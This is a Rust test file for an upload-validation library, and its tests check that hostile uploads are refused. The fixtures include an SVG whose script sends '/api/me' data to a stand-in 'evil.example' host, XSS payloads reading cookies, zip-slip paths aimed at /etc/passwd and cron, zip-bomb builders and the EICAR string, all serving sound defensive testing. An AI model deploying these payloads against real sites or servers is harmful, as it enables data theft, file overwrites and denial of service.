//! Uploads against the attacks each check exists for: disguised types,
//! scriptable markup, zip-slip, zip bombs (plain, lying, overlapping),
//! hostile file names, a scanner that finds malware or is down.

#![cfg(feature = "uploads")]
#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

use std::future::Future;
use std::io::{Cursor, Write};
use std::pin::pin;
use std::task::{Context, Poll, Waker};

use palisade_errors::ErrorKind;
use palisade_validate::{
    ArchiveErrorKind, ArchiveLimits, ConfigErrorKind, DisplayName, FileType, INFLATE_CHUNK,
    NoScanner, ScanError, ScanVerdict, StoredName, UploadErrorKind, UploadMetadata, UploadPolicy,
    UploadScanner, inspect_zip,
};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

mod support;
use support::zip_bytes::{
    central_header, deflate_zeros, end_record, local_header, raw_zip, u16le, u32le,
};

// --- fixtures ------------------------------------------------------------

/// A complete 1x1 PNG.
const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\
\0\0\0\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\0\0\0\0IEND\xaeB`\x82";

/// A minimal PDF.
const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n\
2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";

const SVG_WITH_SCRIPT: &[u8] = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\">\
<script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></svg>";

fn deflated() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(CompressionMethod::Deflated)
}

/// A zip (deflate) of `(name, content)` entries, written by the zip crate.
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        writer.start_file(*name, deflated()).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn zip_policy(limits: ArchiveLimits) -> UploadPolicy {
    UploadPolicy::builder()
        .allow(FileType::Zip)
        .archive_limits(limits)
        .build()
        .unwrap()
}

fn archive_refusal(bytes: &[u8], limits: &ArchiveLimits) -> ArchiveErrorKind {
    inspect_zip(bytes, limits).unwrap_err().kind()
}

/// Drives a future that never waits (the fake scanners below) to completion.
fn ready<F: Future>(future: F) -> F::Output {
    let mut future = pin!(future);
    let mut context = Context::from_waker(Waker::noop());
    loop {
        if let Poll::Ready(output) = future.as_mut().poll(&mut context) {
            return output;
        }
    }
}

// --- type checks ---------------------------------------------------------

#[test]
fn legit_png_pdf_and_zip_are_accepted() {
    let policy = UploadPolicy::builder()
        .allow(FileType::Png)
        .allow(FileType::Pdf)
        .allow(FileType::Zip)
        .build()
        .unwrap();
    let png = policy
        .check(
            &UploadMetadata::new("cat.png").with_content_type("image/png"),
            PNG,
        )
        .unwrap();
    assert_eq!(png.file_type(), FileType::Png);
    assert_eq!(png.size(), PNG.len() as u64);
    assert!(!png.requires_sandbox());
    let pdf = policy
        .check(&UploadMetadata::new("Report Q3.PDF"), PDF)
        .unwrap();
    assert_eq!(pdf.file_type(), FileType::Pdf);
    assert_eq!(pdf.display_name().as_str(), "Report Q3.PDF");

    let zip = zip_of(&[("docs/readme.txt", b"hello"), ("docs/cat.png", PNG)]);
    let accepted = policy
        .check(
            &UploadMetadata::new("bundle.zip").with_content_type("application/x-zip-compressed"),
            &zip,
        )
        .unwrap();
    let summary = accepted.archive().unwrap();
    assert_eq!(summary.entries(), 2);
    assert_eq!(summary.total_bytes(), 5 + PNG.len() as u64);
    assert_eq!(summary.nested_archives(), 0);
}

#[test]
fn png_renamed_pdf_is_refused_as_a_type_mismatch() {
    // Attack: a file whose name lies about its content, to be served or
    // processed as the type the name claims.
    let both = UploadPolicy::builder()
        .allow(FileType::Png)
        .allow(FileType::Pdf)
        .build()
        .unwrap();
    let error = both
        .check(&UploadMetadata::new("invoice.pdf"), PNG)
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TypeMismatch);
    assert_eq!(palisade_errors::Error::from(error).status(), 422);

    let pdf_only = UploadPolicy::builder()
        .allow(FileType::Pdf)
        .build()
        .unwrap();
    let error = pdf_only
        .check(&UploadMetadata::new("invoice.pdf"), PNG)
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TypeMismatch);
}

#[test]
fn png_with_pdf_magic_inside_is_still_a_png() {
    // Attack: a polyglot — `%PDF` inside the first KiB of a PNG (in a text
    // chunk) satisfies a "magic anywhere in the first KiB" PDF check.
    let mut polyglot = PNG[..33].to_vec();
    polyglot.extend_from_slice(b"\0\0\0\x0ctEXtc\0%PDF-1.4 x");
    polyglot.extend_from_slice(&PNG[33..]);
    let policy = UploadPolicy::documents();
    let error = policy
        .check(&UploadMetadata::new("x.pdf"), &polyglot)
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TypeMismatch);
}

#[test]
fn extension_outside_the_policy_is_415() {
    let policy = UploadPolicy::images();
    for name in ["run.exe", "noextension", "archive.zip", "x.png.exe", ""] {
        let error = policy.check(&UploadMetadata::new(name), PNG).unwrap_err();
        assert_eq!(error.kind(), UploadErrorKind::TypeNotAllowed, "{name}");
        assert_eq!(palisade_errors::Error::from(error).status(), 415);
    }
}

#[test]
fn declared_content_type_must_not_contradict_the_file() {
    // Attack: a declared type the application might trust downstream.
    let policy = UploadPolicy::images();
    let metadata = |ct: &str| UploadMetadata::new("a.png").with_content_type(ct);
    for agreeing in [
        "image/png",
        "IMAGE/PNG; charset=binary",
        "application/octet-stream",
        "",
    ] {
        assert!(policy.check(&metadata(agreeing), PNG).is_ok(), "{agreeing}");
    }
    for contradicting in [
        "text/html",
        "image/jpeg",
        "application/pdf",
        "image/svg+xml",
    ] {
        let error = policy.check(&metadata(contradicting), PNG).unwrap_err();
        assert_eq!(
            error.kind(),
            UploadErrorKind::ContentTypeMismatch,
            "{contradicting}"
        );
    }
    let jpeg = b"\xFF\xD8\xFF\xE0\0\x10JFIF\0";
    let jpg = UploadMetadata::new("a.jpeg").with_content_type("image/jpg");
    assert_eq!(
        policy.check(&jpg, jpeg).unwrap().file_type(),
        FileType::Jpeg
    );
}

#[test]
fn size_cap_is_413_and_empty_is_422() {
    let policy = UploadPolicy::builder()
        .max_bytes(PNG.len() as u64 - 1)
        .allow(FileType::Png)
        .build()
        .unwrap();
    let error = policy
        .check(&UploadMetadata::new("a.png"), PNG)
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TooLarge);
    let envelope = palisade_errors::Error::from(error);
    assert_eq!(envelope.kind(), ErrorKind::PayloadTooLarge);
    assert_eq!(envelope.status(), 413);
    let error = policy
        .check(&UploadMetadata::new("a.png"), b"")
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::Empty);
}

// --- scriptable markup ---------------------------------------------------

#[test]
fn svg_with_script_is_refused_by_default() {
    // Attack: stored XSS — an SVG's <script> runs in the site's origin when
    // the file is opened from it.
    let policy = UploadPolicy::images();
    let as_svg = policy
        .check(&UploadMetadata::new("logo.svg"), SVG_WITH_SCRIPT)
        .unwrap_err();
    assert_eq!(as_svg.kind(), UploadErrorKind::TypeNotAllowed);
    // The same file renamed to an allowed image type: the markup sniff
    // refuses it as dangerous, whatever the name says.
    let as_png = policy
        .check(&UploadMetadata::new("logo.png"), SVG_WITH_SCRIPT)
        .unwrap_err();
    assert_eq!(as_png.kind(), UploadErrorKind::ScriptableContent);
    assert_eq!(palisade_errors::Error::from(as_png).status(), 422);
}

#[test]
fn html_disguised_as_text_or_pdf_is_refused() {
    // Attack: a page uploaded as "notes.txt" or with %PDF in a comment,
    // rendered as HTML by a browser that sniffs.
    let policy = UploadPolicy::documents();
    for (name, bytes) in [
        (
            "notes.txt",
            &b"  <!DOCTYPE html><script>alert(document.cookie)</script>"[..],
        ),
        (
            "paper.pdf",
            b"<html><!-- %PDF-1.4 --><script>alert(1)</script></html>",
        ),
        (
            "data.txt",
            b"<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\"/>",
        ),
    ] {
        let error = policy.check(&UploadMetadata::new(name), bytes).unwrap_err();
        assert_eq!(error.kind(), UploadErrorKind::ScriptableContent, "{name}");
    }
    // Plain text that merely starts with `<` is text.
    assert!(
        policy
            .check(&UploadMetadata::new("a.txt"), b"<3 you")
            .is_ok()
    );
}

#[test]
fn svg_allowed_dangerously_is_flagged_for_the_sandbox() {
    let policy = UploadPolicy::builder()
        .allow(FileType::Png)
        .allow_scriptable_dangerously(FileType::Svg)
        .build()
        .unwrap();
    let accepted = policy
        .check(&UploadMetadata::new("logo.svg"), SVG_WITH_SCRIPT)
        .unwrap();
    assert!(accepted.requires_sandbox());
    let headers = accepted.download_headers();
    assert_eq!(headers["content-type"], "image/svg+xml");
    assert_eq!(
        headers["content-security-policy"],
        "sandbox; default-src 'none'"
    );
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment;")
    );
    assert_eq!(headers["x-content-type-options"], "nosniff");
    // Still not under another name.
    let error = policy
        .check(&UploadMetadata::new("logo.png"), SVG_WITH_SCRIPT)
        .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TypeMismatch);
}

// --- zip -----------------------------------------------------------------

#[test]
fn zip_slip_archive_is_refused() {
    // Attack: zip-slip — an entry name that escapes the extraction
    // directory and overwrites a file elsewhere (a cron job, a web root).
    let limits = ArchiveLimits::default();
    for evil in [
        "../../../../etc/cron.d/evil",
        "docs/../../evil.sh",
        "/etc/passwd",
        "C:/Windows/System32/evil.dll",
        "..\\..\\evil.bat",
        "docs\\..\\..\\evil.bat",
    ] {
        let zip = zip_of(&[("ok.txt", b"fine"), (evil, b"payload")]);
        assert_eq!(
            archive_refusal(&zip, &limits),
            ArchiveErrorKind::PathTraversal,
            "{evil}"
        );
        let error = zip_policy(limits)
            .check(&UploadMetadata::new("a.zip"), &zip)
            .unwrap_err();
        assert_eq!(
            error.kind(),
            UploadErrorKind::Archive(ArchiveErrorKind::PathTraversal)
        );
        assert_eq!(palisade_errors::Error::from(error).status(), 422);
    }
}

#[test]
fn zip_slip_through_a_symlink_entry_is_refused() {
    // Attack: a symlink entry `link -> /etc`, then a file `link/passwd`.
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .add_symlink("link", "/etc", SimpleFileOptions::default())
        .unwrap();
    let zip = writer.finish().unwrap().into_inner();
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Symlink
    );
}

#[test]
fn zip_bomb_fixture_is_a_valid_archive_within_caps() {
    // The bombs below are refused for their size, not for a broken stream:
    // the same construction under the caps is accepted.
    let (stream, size) = deflate_zeros(1 << 20);
    let zip = raw_zip(&[("zeros.bin", &stream, size)]);
    let summary = inspect_zip(&zip, &ArchiveLimits::default()).unwrap();
    assert_eq!(summary.total_bytes(), size as u64);
    assert!(zip.len() * 150 < size, "ratio over 150:1");
}

#[test]
fn zip_bomb_is_refused_while_inflating_with_memory_bounded() {
    // Attack: a zip bomb — a small archive whose entries inflate to far
    // more than the server can hold: 64 entries of 16 MiB of zeros (1 GiB)
    // in an archive of 6.5 MiB.
    let (stream, size) = deflate_zeros(16 << 20);
    let names: Vec<String> = (0..64).map(|i| format!("part{i}.bin")).collect();
    let entries: Vec<(&str, &[u8], usize)> = names
        .iter()
        .map(|n| (n.as_str(), stream.as_slice(), size))
        .collect();
    let zip = raw_zip(&entries);

    let limits = ArchiveLimits {
        max_total_bytes: 40 << 20,
        ..ArchiveLimits::default()
    };
    let error = inspect_zip(&zip, &limits).unwrap_err();
    assert_eq!(error.kind(), ArchiveErrorKind::TotalTooLarge);
    // Stopped at the cap: at most one buffer past it was ever inflated,
    // and inflated bytes are counted, never kept (tests/upload_memory.rs
    // measures the allocations).
    assert!(error.bytes_inflated() > limits.max_total_bytes);
    assert!(error.bytes_inflated() <= limits.max_total_bytes + INFLATE_CHUNK as u64);
}

#[test]
fn zip_bomb_with_lying_headers_is_refused_while_inflating() {
    // Attack: headers that declare a tiny size for an entry that inflates
    // to 32 MiB, to slip under a check that trusts declared sizes.
    let (stream, _) = deflate_zeros(32 << 20);
    let zip = raw_zip(&[("small.txt", &stream, 100)]);

    let limits = ArchiveLimits {
        max_entry_bytes: 1 << 20,
        ..ArchiveLimits::default()
    };
    let error = inspect_zip(&zip, &limits).unwrap_err();
    assert_eq!(error.kind(), ArchiveErrorKind::EntryTooLarge);
    assert!(error.bytes_inflated() > limits.max_entry_bytes);
    assert!(error.bytes_inflated() <= limits.max_entry_bytes + INFLATE_CHUNK as u64);

    // Under generous caps the lie itself is refused: 32 MiB is not 100 bytes.
    let generous = ArchiveLimits {
        max_entry_bytes: 64 << 20,
        ..ArchiveLimits::default()
    };
    assert_eq!(
        archive_refusal(&zip, &generous),
        ArchiveErrorKind::SizeMismatch
    );
}

#[test]
fn overlapping_file_bomb_full_overlap_is_refused() {
    // Attack: David Fifield's "better zip bomb", full-overlap form — many
    // central directory entries pointing at one local header and one
    // compressed kernel, so N entries inflate the same stream N times.
    let (kernel, size) = deflate_zeros(1 << 20);
    let mut zip = local_header("0", 8, kernel.len(), size);
    zip.extend_from_slice(&kernel);
    let directory_offset = zip.len();
    let mut directory = Vec::new();
    let entries = 200;
    for i in 0..entries {
        directory.extend_from_slice(&central_header(&i.to_string(), 8, kernel.len(), size, 0));
    }
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(&end_record(entries, directory.len(), directory_offset));
    let error = inspect_zip(&zip, &ArchiveLimits::default()).unwrap_err();
    assert_eq!(error.kind(), ArchiveErrorKind::OverlappingEntries);
    assert_eq!(
        error.bytes_inflated(),
        0,
        "refused before inflating anything"
    );
}

#[test]
fn overlapping_file_bomb_quoted_overlap_is_refused() {
    // Attack: Fifield's quoted-overlap form — each file has its own local
    // header (names match, so readers that compare them accept it), and
    // its data starts with a stored deflate block that "quotes" the next
    // file's local header, then runs on into the shared kernel.
    let (kernel, size) = deflate_zeros(1 << 20);
    let files = 10;
    let names: Vec<String> = (0..files).map(|i| format!("f{i}")).collect();
    // Work back from the kernel: file i's data = quote(header i+1) + data i+1.
    let mut headers = vec![Vec::new(); files];
    let mut data_len = vec![0usize; files];
    let mut plain_len = vec![0usize; files];
    data_len[files - 1] = kernel.len();
    plain_len[files - 1] = size;
    headers[files - 1] = local_header(
        &names[files - 1],
        8,
        data_len[files - 1],
        plain_len[files - 1],
    );
    for i in (0..files - 1).rev() {
        let next = &headers[i + 1];
        data_len[i] = 5 + next.len() + data_len[i + 1];
        plain_len[i] = next.len() + plain_len[i + 1];
        headers[i] = local_header(&names[i], 8, data_len[i], plain_len[i]);
    }
    let mut zip = Vec::new();
    let mut offsets = Vec::new();
    for i in 0..files {
        offsets.push(zip.len());
        zip.extend_from_slice(&headers[i]);
        if i + 1 < files {
            // A non-final stored block quoting the next local header.
            let len = headers[i + 1].len();
            zip.push(0x00);
            zip.extend_from_slice(&u16le(len));
            zip.extend_from_slice(&u16le(!u16::try_from(len).unwrap() as usize));
        }
    }
    zip.extend_from_slice(&kernel);
    let directory_offset = zip.len();
    let mut directory = Vec::new();
    for i in 0..files {
        directory.extend_from_slice(&central_header(
            &names[i],
            8,
            data_len[i],
            plain_len[i],
            offsets[i],
        ));
    }
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(&end_record(files, directory.len(), directory_offset));

    let error = inspect_zip(&zip, &ArchiveLimits::default()).unwrap_err();
    assert_eq!(error.kind(), ArchiveErrorKind::OverlappingEntries);
    assert_eq!(error.bytes_inflated(), 0);
}

#[test]
fn entry_data_outside_the_archive_is_refused() {
    // Attack: an entry whose declared data runs into the central directory
    // or past the end of the file (readers disagree on what it holds).
    let mut zip = local_header("a.txt", 0, 5, 5);
    zip.extend_from_slice(b"hello");
    let directory_offset = zip.len();
    let central = central_header("a.txt", 0, 5000, 5000, 0);
    zip.extend_from_slice(&central);
    zip.extend_from_slice(&end_record(1, central.len(), directory_offset));
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::OutsideArchive
    );

    let mut zip = local_header("a.txt", 0, 5, 5);
    zip.extend_from_slice(b"hello");
    let directory_offset = zip.len();
    let central = central_header("a.txt", 0, 5, 5, 1_000_000);
    zip.extend_from_slice(&central);
    zip.extend_from_slice(&end_record(1, central.len(), directory_offset));
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::OutsideArchive
    );
}

#[test]
fn local_name_that_differs_from_the_central_one_is_refused() {
    // Attack: a streaming extractor reads the local name, a central-directory
    // checker the other — the checked name is not the one written.
    let mut zip = local_header("../evil", 0, 5, 5);
    zip.extend_from_slice(b"hello");
    let directory_offset = zip.len();
    let central = central_header("good.txt", 0, 5, 5, 0);
    zip.extend_from_slice(&central);
    zip.extend_from_slice(&end_record(1, central.len(), directory_offset));
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
}

#[test]
fn encrypted_entries_are_refused() {
    // Attack: an encrypted entry hides its content from inspection and
    // scanning.
    let mut zip = zip_of(&[("secret.txt", b"hidden payload")]);
    // Set the "encrypted" flag bit in the local and the central header.
    for signature in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
        let at = zip.windows(4).position(|w| w == signature).unwrap();
        let flags_at = at + if signature == b"PK\x03\x04" { 6 } else { 8 };
        zip[flags_at] |= 1;
    }
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::Encrypted
    );
}

#[test]
fn nested_archives_are_counted_and_refused_by_default() {
    // Attack: a bomb inside a bomb — the inner archive escapes the caps
    // applied to the outer one.
    let inner = zip_of(&[("a.txt", b"a")]);
    let outer = zip_of(&[("readme.txt", b"x"), ("inner.zip", &inner)]);
    assert_eq!(
        archive_refusal(&outer, &ArchiveLimits::default()),
        ArchiveErrorKind::NestedArchive
    );
    // Renamed, it is still found by its magic bytes.
    let disguised = zip_of(&[("inner.dat", &inner)]);
    assert_eq!(
        archive_refusal(&disguised, &ArchiveLimits::default()),
        ArchiveErrorKind::NestedArchive
    );
    let allow_one = ArchiveLimits {
        max_nested_archives: 1,
        ..ArchiveLimits::default()
    };
    assert_eq!(
        inspect_zip(&outer, &allow_one).unwrap().nested_archives(),
        1
    );
}

#[test]
fn too_many_entries_and_duplicates_are_refused() {
    let names: Vec<String> = (0..11).map(|i| format!("{i}.txt")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let zip = zip_of(&entries);
    let limits = ArchiveLimits {
        max_entries: 10,
        ..ArchiveLimits::default()
    };
    assert_eq!(
        archive_refusal(&zip, &limits),
        ArchiveErrorKind::TooManyEntries
    );

    // Attack: two entries with one name (case aside) — extractors differ on
    // which one is kept, so the inspected one may not be the extracted one.
    let mut zip = zip_of(&[("a.txt", b"safe"), ("b.txt", b"evil")]);
    while let Some(at) = zip.windows(5).position(|w| w == b"b.txt") {
        zip[at] = b'A';
    }
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::DuplicateName
    );
}

#[test]
fn ambiguous_archive_layouts_are_refused() {
    let zip = zip_of(&[("a.txt", b"a")]);
    // Data before the first entry (a self-extractor stub, a polyglot).
    let mut prefixed = b"MZ stub".to_vec();
    prefixed.extend_from_slice(&zip);
    assert_eq!(
        archive_refusal(&prefixed, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
    // Bytes after the end record.
    let mut trailing = zip.clone();
    trailing.extend_from_slice(b"junk");
    assert_eq!(
        archive_refusal(&trailing, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
    // A truncated archive.
    assert_eq!(
        archive_refusal(&zip[..zip.len() - 1], &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
}

// --- names ---------------------------------------------------------------

#[test]
fn filename_sanitiser_table() {
    // Attacks: path traversal through the display name, Windows device
    // names, RLO spoofing of the extension, NUL truncation, oversized names.
    let long = "a".repeat(10_000);
    let long_with_ext = format!("{}.pdf", "é".repeat(5_000));
    let table: &[(&str, &str)] = &[
        ("../../etc/passwd", "_._etc_passwd"),
        ("C:\\x\\..\\boot.ini", "C__x_._boot.ini"),
        ("CON.txt", "_CON.txt"),
        ("con", "_con"),
        ("LPT9.tar.gz", "_LPT9.tar.gz"),
        ("COM10.txt", "COM10.txt"),
        ("a\u{202e}gpj.exe", "agpj.exe"),
        ("evil.exe\0.png", "evil.exe.png"),
        ("\0\0\0", "file"),
        ("...", "file"),
        (".htaccess", "htaccess"),
        ("name. . .", "name"),
        ("  spaced.txt  ", "spaced.txt"),
        ("a:b*c?d\"e<f>g|h.txt", "a_b_c_d_e_f_g_h.txt"),
        ("\u{FF0E}\u{FF0E}\u{FF0F}x", "_x"),
        ("zero\u{200B}width\u{FEFF}.txt", "zerowidth.txt"),
        ("line\r\nbreak.txt", "linebreak.txt"),
        ("ok-name_1.png", "ok-name_1.png"),
        ("日本語.pdf", "日本語.pdf"),
    ];
    for (input, expected) in table {
        assert_eq!(
            DisplayName::sanitize(input).as_str(),
            *expected,
            "{input:?}"
        );
    }
    let cut = DisplayName::sanitize(&long);
    assert_eq!(cut.as_str().len(), 255);
    let cut = DisplayName::sanitize(&long_with_ext);
    assert!(cut.as_str().len() <= 255);
    assert!(
        cut.as_str().ends_with("é.pdf"),
        "the extension survives the cut"
    );
    let capped = DisplayName::sanitize_with_cap(&long_with_ext, 20);
    assert_eq!(capped.as_str(), "éééééééé.pdf");
}

#[test]
fn stored_names_are_random_and_never_the_clients() {
    let policy = UploadPolicy::images();
    let metadata = UploadMetadata::new("../../var/www/shell.png");
    let first = policy.check(&metadata, PNG).unwrap();
    let second = policy.check(&metadata, PNG).unwrap();
    assert_ne!(first.stored_name(), second.stored_name());
    let name = first.stored_name().as_str();
    assert_eq!(name.len(), 36);
    assert!(name.ends_with(".png"));
    assert!(!name.contains("shell"));
    assert_eq!(StoredName::parse(name).as_ref(), Some(first.stored_name()));
    for forged in [
        "../../etc/passwd",
        "shell.png",
        &name.to_uppercase(),
        &format!("{name}.php"),
    ] {
        assert_eq!(StoredName::parse(forged), None, "{forged}");
    }
}

// --- scanner -------------------------------------------------------------

struct FakeScanner(Result<ScanVerdict, &'static str>);

impl UploadScanner for FakeScanner {
    async fn scan(&self, _bytes: &[u8]) -> Result<ScanVerdict, ScanError> {
        self.0.clone().map_err(ScanError::new)
    }
}

#[test]
fn infected_verdict_refuses_the_upload() {
    // Attack: malware uploaded for other users to download.
    let scanner = FakeScanner(Ok(ScanVerdict::infected("Win.Test.EICAR_HDB-1")));
    let error = ready(UploadPolicy::documents().check_scanned(
        &UploadMetadata::new("eicar.txt"),
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        &scanner,
    ))
    .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::Infected);
    assert_eq!(palisade_errors::Error::from(error).status(), 422);
}

#[test]
fn scanner_failure_fails_closed() {
    // Attack: knock the scanner over (or wait for it to fall over), then
    // upload while nothing checks.
    let scanner = FakeScanner(Err("clamd: connection refused"));
    let error =
        ready(UploadPolicy::images().check_scanned(&UploadMetadata::new("a.png"), PNG, &scanner))
            .unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::ScannerUnavailable);
    let envelope = palisade_errors::Error::from(error);
    assert_eq!(envelope.status(), 503);
    assert_eq!(envelope.headers()["retry-after"], "1");
}

#[test]
fn clean_verdict_and_no_scanner_accept() {
    let policy = UploadPolicy::images();
    let metadata = UploadMetadata::new("a.png");
    assert!(ready(policy.check_scanned(&metadata, PNG, &NoScanner)).is_ok());
    let clean = FakeScanner(Ok(ScanVerdict::Clean));
    assert!(ready(policy.check_scanned(&metadata, PNG, &clean)).is_ok());
    // The scanner is not reached for a file the policy refuses.
    let never = FakeScanner(Err("must not be called"));
    let error =
        ready(policy.check_scanned(&UploadMetadata::new("a.exe"), PNG, &never)).unwrap_err();
    assert_eq!(error.kind(), UploadErrorKind::TypeNotAllowed);
}

// --- configuration -------------------------------------------------------

#[test]
fn policies_that_cannot_work_are_configuration_errors() {
    let kind = |b: palisade_validate::UploadPolicyBuilder| b.build().unwrap_err().kind();
    assert_eq!(
        kind(UploadPolicy::builder()),
        ConfigErrorKind::InvalidUploadPolicy
    );
    assert_eq!(
        kind(UploadPolicy::builder().allow(FileType::Svg)),
        ConfigErrorKind::InvalidUploadPolicy,
        "svg only through allow_scriptable_dangerously"
    );
    assert_eq!(
        kind(UploadPolicy::builder().allow_with_extensions(FileType::Png, ["pdf"])),
        ConfigErrorKind::InvalidUploadPolicy,
        "an extension of another type"
    );
    assert_eq!(
        kind(UploadPolicy::builder().allow_with_extensions(FileType::Png, ["p.ng"])),
        ConfigErrorKind::InvalidUploadPolicy
    );
    assert_eq!(
        kind(
            UploadPolicy::builder()
                .allow(FileType::Png)
                .allow(FileType::Png)
        ),
        ConfigErrorKind::InvalidUploadPolicy
    );
    assert_eq!(
        kind(UploadPolicy::builder().allow(FileType::Png).max_bytes(0)),
        ConfigErrorKind::InvalidLimit
    );
    let no_entries = ArchiveLimits {
        max_entries: 0,
        ..ArchiveLimits::default()
    };
    assert_eq!(
        kind(
            UploadPolicy::builder()
                .allow(FileType::Zip)
                .archive_limits(no_entries)
        ),
        ConfigErrorKind::InvalidLimit
    );
    let error = serde_json::from_str::<UploadPolicy>(r#"{"allow": ["svg"]}"#).unwrap_err();
    assert!(
        error.to_string().contains("allow_scriptable_dangerously"),
        "{error}"
    );
    let svg: UploadPolicy =
        serde_json::from_str(r#"{"allow": ["png"], "allow_scriptable_dangerously": ["svg"]}"#)
            .unwrap();
    assert!(svg.allows(FileType::Svg));
}

#[test]
fn zip_slip_through_the_unicode_path_extra_field_is_refused() {
    // Attack: a benign header name with an Info-ZIP Unicode Path extra
    // field (0x7075) naming `../../evil` — extractors that know the field
    // write the extra field's name, not the one a naive checker looked at.
    let mut zip = local_header("good.txt", 0, 5, 5);
    zip.extend_from_slice(b"hello");
    let directory_offset = zip.len();
    let mut central = central_header("good.txt", 0, 5, 5, 0);
    let evil = b"../../evil";
    let mut extra = 0x7075u16.to_le_bytes().to_vec();
    extra.extend_from_slice(&u16le(5 + evil.len()));
    extra.push(1); // version
    extra.extend_from_slice(&[0; 4]); // crc-32 of the header name
    extra.extend_from_slice(evil);
    central[30..32].copy_from_slice(&u16le(extra.len()));
    central.extend_from_slice(&extra);
    zip.extend_from_slice(&central);
    zip.extend_from_slice(&end_record(1, central.len(), directory_offset));
    assert_eq!(
        archive_refusal(&zip, &ArchiveLimits::default()),
        ArchiveErrorKind::PathTraversal
    );
}

/// An Info-ZIP Unicode Path extra field (0x7075) naming `name`.
fn unicode_path_field(name: &[u8]) -> Vec<u8> {
    let mut field = 0x7075u16.to_le_bytes().to_vec();
    field.extend_from_slice(&u16le(5 + name.len()));
    field.push(1); // version
    field.extend_from_slice(&[0; 4]); // crc-32 of the header name
    field.extend_from_slice(name);
    field
}

/// A Zip64 extended information extra field (0x0001) with both sizes.
fn zip64_field(size: usize) -> Vec<u8> {
    let mut field = 0x0001u16.to_le_bytes().to_vec();
    field.extend_from_slice(&u16le(16));
    field.extend_from_slice(&(size as u64).to_le_bytes());
    field.extend_from_slice(&(size as u64).to_le_bytes());
    field
}

/// A stored entry: name, content, local extra field, central extra field.
type EntryWithExtras<'a> = (&'a str, &'a [u8], Vec<u8>, Vec<u8>);

/// A zip of stored entries with the given extra fields.
fn stored_zip_with_extras(entries: &[EntryWithExtras<'_>]) -> Vec<u8> {
    let mut zip = Vec::new();
    let mut directory = Vec::new();
    for (name, content, local_extra, central_extra) in entries {
        let offset = zip.len();
        let mut local = local_header(name, 0, content.len(), content.len());
        local[28..30].copy_from_slice(&u16le(local_extra.len()));
        local.extend_from_slice(local_extra);
        zip.extend_from_slice(&local);
        zip.extend_from_slice(content);
        let mut central = central_header(name, 0, content.len(), content.len(), offset);
        central[30..32].copy_from_slice(&u16le(central_extra.len()));
        central.extend_from_slice(central_extra);
        directory.extend_from_slice(&central);
    }
    let directory_offset = zip.len();
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(&end_record(
        entries.len(),
        directory.len(),
        directory_offset,
    ));
    zip
}

#[test]
fn zip_slip_through_a_local_unicode_path_extra_field_is_refused() {
    // Attack: the Unicode Path field (0x7075) in the LOCAL header only. A
    // streaming extractor (libarchive's streaming mode, many unzips) never
    // reads the central directory and writes the local field's name.
    let evil = stored_zip_with_extras(&[(
        "good.txt",
        b"hello",
        unicode_path_field(b"../../evil"),
        Vec::new(),
    )]);
    assert_eq!(
        archive_refusal(&evil, &ArchiveLimits::default()),
        ArchiveErrorKind::PathTraversal
    );
    // A safe-looking local name that is not the header's: what is written
    // is not what was checked (for duplicates, for the nested-archive
    // extension), so it is refused too.
    let other = stored_zip_with_extras(&[(
        "good.txt",
        b"hello",
        unicode_path_field(b"payload.zip"),
        Vec::new(),
    )]);
    assert_eq!(
        archive_refusal(&other, &ArchiveLimits::default()),
        ArchiveErrorKind::Malformed
    );
    // The field repeating the header's name, as writers put it, is fine.
    let honest = stored_zip_with_extras(&[(
        "good.txt",
        b"hello",
        unicode_path_field(b"good.txt"),
        unicode_path_field(b"good.txt"),
    )]);
    assert_eq!(
        inspect_zip(&honest, &ArchiveLimits::default())
            .unwrap()
            .entries(),
        1
    );
}

#[test]
